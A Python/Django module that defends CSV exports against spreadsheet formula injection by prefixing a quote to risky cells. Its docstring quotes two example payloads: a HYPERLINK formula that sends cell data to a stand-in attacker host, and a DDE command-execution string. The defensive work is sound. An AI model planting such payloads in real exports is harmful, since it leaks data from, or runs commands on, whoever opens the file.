"""Every CSV Cartess writes, made safe to open in a spreadsheet (CSV formula injection).

A spreadsheet evaluates a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a
carriage return before one of them): a name such as `=HYPERLINK("http://evil.example/?x="&A1)`
or `+cmd|' /C calc'!A0` typed into a listing would run on the computer of whoever opens the
export. The OWASP rule, defined here once for the whole product: such a cell is written with
a `'` in front, which the spreadsheet reads as "this is text"; a plain number (`-3.5`, `12`,
`-0,25`) is left as it is. `csv_writer` applies it to every cell of every row; the exports
(the directory, the funding coverage, the land workspace, the network template) write
through it.
"""

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

from django.http import HttpResponse

#: The first characters a spreadsheet may evaluate (OWASP, "CSV Injection"), with the
#: full-width forms some East Asian spreadsheets read as the same operators.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

#: A plain number, with a point or a French comma: left alone although it may start with a
#: sign (`-3.5`, `+12`, `-0,25`, `1e-3`). A phone (`+33 3 20 00 00 00`) is not one.
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_safe(value: Any) -> Any:
    """`value` as a spreadsheet should receive it: text starting with a character of
    `FORMULA_STARTS` gets a `'` in front, unless it is a plain number (`PLAIN_NUMBER`).

    Numbers (int, float, Decimal, bool), dates and None come back unchanged: the csv module
    writes them as it always did, and none can start a formula. Anything else is judged on
    its text (`str(value)`, as the csv module would write it). Pure.
    """
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return value


class SpreadsheetSafeWriter:
    """A `csv.writer` whose every cell goes through `spreadsheet_safe` first."""

    def __init__(self, file: Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        """Write one row, each cell made safe; returns what `csv.writer.writerow` returns."""
        return self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write every row of `rows`, each cell made safe."""
        for row in rows:
            self.writerow(row)


def csv_writer(file: Any, **fmtparams: Any) -> SpreadsheetSafeWriter:
    """`csv.writer(file, **fmtparams)` for a file a person may open in a spreadsheet: every
    cell goes through `spreadsheet_safe`. The only way Cartess writes such a CSV."""
    return SpreadsheetSafeWriter(file, **fmtparams)


def csv_response(
    *, filename: str, header: Iterable[Any], rows: Iterable[Iterable[Any]]
) -> HttpResponse:
    """A CSV download for spreadsheets: UTF-8 with a BOM (Excel reads the accents), `;`
    between cells (French Excel), `header` then `rows`, every cell through `spreadsheet_safe`,
    offered as `filename`. Consumes `rows`; writes nothing else."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = csv_writer(response, delimiter=";")
    writer.writerow(header)
    writer.writerows(rows)
    return response
